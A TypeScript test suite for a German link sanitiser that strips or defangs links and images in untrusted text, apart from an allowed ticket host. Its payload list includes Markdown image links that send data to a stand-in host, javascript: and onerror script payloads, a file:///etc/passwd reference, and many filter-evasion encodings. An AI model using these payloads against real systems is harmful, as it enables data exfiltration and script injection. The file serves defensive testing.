import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { entschaerfe, unverlinkt } from '../../src/rueckkanal/fremdtext.ts'

// How the forms were found: the syntaxes of CommonMark and HTML for links and images, the ways in which the URL standard
// and older parsers disagree, what chat clients link without being asked, and ways to hide each of these from a filter.

const HOSTS = ['tickets.firma.de']
const WORT = '[Link entfernt]'
const sauber = (text: string): string => entschaerfe(text, HOSTS, WORT).text

/** What a client would open or fetch, stated without the code under test. */
const ANKLICKBAR = [
  /boese/i,
  /[a-z][a-z0-9+.-]*:\/\//i,
  /(?:javascript|data|vbscript|file|mailto|https?):\S/i,
  /\bwww\./i,
  /\]\([^)]*\)/,
  /<[a-z][^>]*=[^>]*>/i,
  /[a-z0-9]\.[a-z]{2,}/i,
]

const FEINDLICH = [
  // Markdown
  '![x](https://boese.example/?q=FAKTEN)',
  '![](https://boese.example/p.png "Titel")',
  '![a [b] c](https://boese.example/p.png)',
  '![x](<https://boese.example/mit leerzeichen>)',
  '![x]( https://boese.example/p.png )',
  '![x](//boese.example/p.png)',
  '![x](/api/vorgaenge)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x][bild]\n\n[bild]: https://boese.example/p.png',
  '![bild]\n\n[bild]: <https://boese.example/p.png> "T"',
  '[hier](https://boese.example)',
  '[hier](https://boese.example "Titel mit ) Klammer")',
  '[hier](https://boese.example/a_(b)_c?q=1)',
  '[hier](javascript:alert(1))',
  '[hier](JaVaScRiPt:alert(1))',
  '[hier](&#106;avascript:alert(1))',
  '[hier](javascript&colon;alert(1))',
  '[hier](vbscript:x)',
  '[hier](mailto:a@boese.example?body=FAKTEN)',
  '[hier](https://tickets.firma.de@boese.example/)',
  '[hier](https://tickets.firma.de:443@boese.example/)',
  '[hier](https://tickets.firma.de.boese.example/)',
  '[hier](https://tickets.firma.de\\@boese.example/)',
  '[hier](https://boese.example#tickets.firma.de)',
  '[![x](https://boese.example/1.png)](https://boese.example/2)',
  '[[hier](https://boese.example/1)](https://boese.example/2)',
  '[a](https://boese.example/1)[b](https://boese.example/2)',
  '[hier][1]\n\n[1]: https://boese.example',
  'htt[](x.y)ps://boese.example/',
  '<https://boese.example/?q=1>',
  // HTML
  '<img src="https://boese.example/p.png">',
  "<img src='//boese.example/p.png'/>",
  '<img src=https://boese.example/p.png',
  '<IMG SRC=https://boese.example/p.png onerror=alert(1)>',
  '<a href="https://boese.example">hier</a>',
  '<a\nhref="javascript:alert(1)">hier</a>',
  '<svg><image href="https://boese.example/p.svg"/></svg>',
  '<div style="background:url(https://boese.example/p.png)">hier</div>',
  '<im<b x=1>g src=https://boese.example/p.png>',
  '<img alt=">" src="https://boese.example/p.png">',
  // Bare addresses
  'https://boese.example',
  'http://boese.example:8080/a/b?c=d&e=f#g',
  'HTTPS://BOESE.EXAMPLE/',
  'https:boese.example',
  'https:/boese.example',
  'https:\\\\boese.example\\x',
  'ftp://boese.example/datei',
  'hxxps://boese.example/x',
  'ws://boese.example',
  'whatsapp://send?text=FAKTEN',
  'view-source:https://boese.example',
  'file:///etc/passwd',
  'data:text/html,<b>x</b>',
  'javascript:fetch(1)',
  '//boese.example/p.png',
  'www.boese.example',
  'boese.example',
  'boese.example/?q=FAKTEN',
  'boese.example:8080/x',
  'BOESE.EXAMPLE',
  'a.b.c.boese.example',
  'boese.de',
  'boese.shop/x',
  'https://tickets.firma.de@boese.example/',
  'https://nutzer:passwort@boese.example/',
  'tickets.firma.de@boese.example/x',
  'https://boese.example.',
  '(https://boese.example/a)',
  '„https://boese.example“',
  '**https://boese.example**',
  'siehe:https://boese.example',
  'a|https://boese.example|b',
  'https://tickets.firma.de,https://boese.example/x',
  'https://tickets.firma.de/),https://boese.example/x',
  'https://tickets.firma.de/"https://boese.example/x',
  // Hosts in other clothes
  'http://203.0.113.7/x',
  '203.0.113.7',
  'http://[2001:db8::1]/x',
  'http://2130706433/',
  'http://0x7f000001/',
  'https://xn--bse-sna.example/',
  'xn--bse-sna.example',
  'https://böse.example/',
  'https://bоese.example/',
  'https://ｂｏｅｓｅ.example/',
  'boese。example',
  'boese．example',
  'https://boese%2Eexample/',
  'https%3A%2F%2Fboese.example%2Fx',
  'boese&#46;example',
  'boese&period;example',
  'https&#58;//boese.example',
  'https&#x3a;&#x2f;&#x2f;boese.example',
  // Hidden characters
  'bo\u200Bese.exam\u200Bple',
  'https://bo\u00ADese.example/',
  'htt\u2060ps://boese.example/',
  'boese\u200D.example',
  '\u202Eelpmaxe.eseob//:sptth https://boese.example/',
  '![x]\u200B(https://boese.example/p.png)',
  '![x](ht\u200Btps://boese.example/p.png)',
]

describe('foreign text', () => {
  test.each(FEINDLICH)('%j opens and fetches nothing', (form) => {
    const { text, entfernt } = entschaerfe(`Vorher ${form} nachher`, HOSTS, WORT)
    const rest = text.replaceAll('tickets.firma.de', '').replaceAll(/https?:\/\/(?=[,/"'\s)]|$)/g, '')
    for (const muster of ANKLICKBAR) expect(rest).not.toMatch(muster)
    expect(text).toContain('Vorher')
    expect(text).toContain('nachher')
    expect(entfernt + (text.includes('boese') ? 0 : 1)).toBeGreaterThan(0)
  })

  test.each(FEINDLICH)(
    '%j said again opens and fetches nothing either, and is not the less readable',
    (form) => {
      const text = unverlinkt(`Vorher ${form} nachher`, HOSTS, WORT)
      const rest = text.replaceAll('tickets.firma.de', '').replaceAll(/https?:\/\/(?=[,/"'\s)]|$)/g, '')
      for (const muster of ANKLICKBAR.slice(1)) expect(rest).not.toMatch(muster)
      expect(sauber(text)).toBe(text)
      expect(text).toMatch(/^Vorher .*nachher$/s)
    },
  )

  test.each([
    ['Unser Wiki ist https://wiki.firma.de/start?a=1.', 'Unser Wiki ist wiki. firma. de/start?a=1.'],
    ['Der Kalender liegt auf kalender.firma.de', 'Der Kalender liegt auf kalender. firma. de'],
    ['Siehe https://tickets.firma.de/1', 'Siehe https://tickets.firma.de/1'],
    ['Lies [hier](https://boese.example/x) ![x](https://boese.example/p.png)', 'Lies hier '],
    ['Öffne javascript:alert(1)', `Öffne ${WORT} (1)`],
  ])('%j said again is %j', (vorher, nachher) => {
    expect(unverlinkt(vorher, HOSTS, WORT)).toBe(nachher)
  })

  test('there are enough forms for this to mean something', () => {
    expect(new Set(FEINDLICH).size).toBeGreaterThanOrEqual(60)
  })

  test.each([
    ['![Diagramm](https://boese.example/x.png) Fertig.', ' Fertig.'],
    ['Lies [das Handbuch](https://boese.example/x) bitte.', 'Lies das Handbuch bitte.'],
    ['Siehe https://boese.example/x.', `Siehe ${WORT}.`],
    ['<a href="https://boese.example">das Handbuch</a>', 'das Handbuch'],
    ['Mehr: <https://boese.example/x>!', `Mehr: ${WORT}!`],
    ['https://boese.example/(x)', `${WORT} (x)`],
  ])('%j keeps its words', (vorher, nachher) => {
    expect(entschaerfe(vorher, HOSTS, WORT)).toEqual({ text: nachher, entfernt: 1 })
  })

  test.each([
    'Der Umsatz war 84.200 € (+17 %), ein Jahr davor 71.900 €.',
    'Am 21.12.2026 um 16:30 Uhr, z.B. im 3. OG, d.h. bei Dr. Muster.',
    'Die Datei bericht.pdf und umsatz.2026.xlsx liegen bei.',
    'Schreib an anna.beispiel@firma.de oder ruf Tel:030123 an.',
    'Siehe V-12.2 und Abschnitt 1.2.3; x[1] = a < b && List<String> > 3.',
    'Familie 👨‍👩‍👧 und 🏳️‍🌈, Zeile\nzwei [in Klammern] (und rund).',
    'Ticket #88: https://tickets.firma.de/88?x=1#y',
    'Ticket [Nr. 88](https://tickets.firma.de/88 "Titel") und tickets.firma.de/89.',
    '![Bild](https://tickets.firma.de/88.png)',
    'und/oder, 24/7, C:\\Temp\\x, 16:00/17:00, „Zitat“, 50 %: ja!',
  ])('%j stays as it is', (text) => {
    expect(entschaerfe(text, HOSTS, WORT)).toEqual({ text, entfernt: 0 })
  })

  test.each([
    ['Das geht nicht.Bitte neu starten', 'Das geht nicht. Bitte neu starten'],
    ['Drucker im 3.OG', 'Drucker im 3. OG'],
    ['boese.unbekannteendung', 'boese. unbekannteendung'],
    ['[1](Anhang) und [2](Anhang B)', '1 (Anhang) und 2 (Anhang B)'],
  ])('%j is no address: it is pulled apart, nothing is lost', (vorher, nachher) => {
    expect(entschaerfe(vorher, HOSTS, WORT)).toEqual({ text: nachher, entfernt: 0 })
  })

  test('a host on the list is compared exactly, in any case', () => {
    expect(sauber('https://TICKETS.firma.de/1')).toBe('https://TICKETS.firma.de/1')
    expect(sauber('https://mein-tickets.firma.de/1')).toBe(WORT)
    expect(sauber('https://firma.de/1')).toBe(WORT)
    expect(entschaerfe('https://tickets.firma.de/1', [], WORT)).toEqual({ text: WORT, entfernt: 1 })
  })

  test('doing it twice changes nothing more, and nothing anybody writes survives as a scheme', () => {
    const stueck = fc.constantFrom(
      '[',
      ']',
      '(',
      ')',
      '!',
      '<',
      '>',
      '"',
      '\\',
      '/',
      ':',
      '.',
      '@',
      ' ',
      '\n',
      '&#46;',
      'a=',
      'img',
      'https:',
      '//',
      'boese',
      'example',
      'javascript',
      '\u200B',
      '![',
      '](',
      'www.',
      'data:',
      '&colon;',
    )
    fc.assert(
      fc.property(fc.array(stueck, { maxLength: 40 }), (teile) => {
        const einmal = sauber(teile.join(''))
        expect(sauber(einmal)).toBe(einmal)
        const wieder = unverlinkt(teile.join(''), HOSTS, WORT)
        expect(sauber(wieder)).toBe(wieder)
        expect(einmal).not.toMatch(
          /[a-z]{2,}:\/\/[a-z]|(?<![a-z]@)boese\.example(?![a-z0-9-])|\[\]\([^()\s]*[.:/][^()]*\)|\bjavascript:[\w/]/,
        )
      }),
      { numRuns: 2_000 },
    )
  })

  test.each([
    ['open brackets', '['],
    ['open images', '![x]('],
    ['closed and open', ']('],
    ['tags', '<a '],
    ['tags with equals', '<a=='],
    ['dots', 'a.'],
    ['schemes', 'a+'],
    ['at signs', 'a@'],
    ['slashes', '//'],
    ['entities', '&#'],
    ['nested tags', '<b x=<'],
    ['joiners', 'a\u200D'],
  ])('a megabyte of %s costs no more than a short text of them', (_, stueck) => {
    // A search that is not linear would run for minutes here: the test's own time limit is the check.
    const { text } = entschaerfe(stueck.repeat(1_000_000 / stueck.length), HOSTS, WORT)
    expect(text.length).toBeLessThanOrEqual(60_000)
  })
})
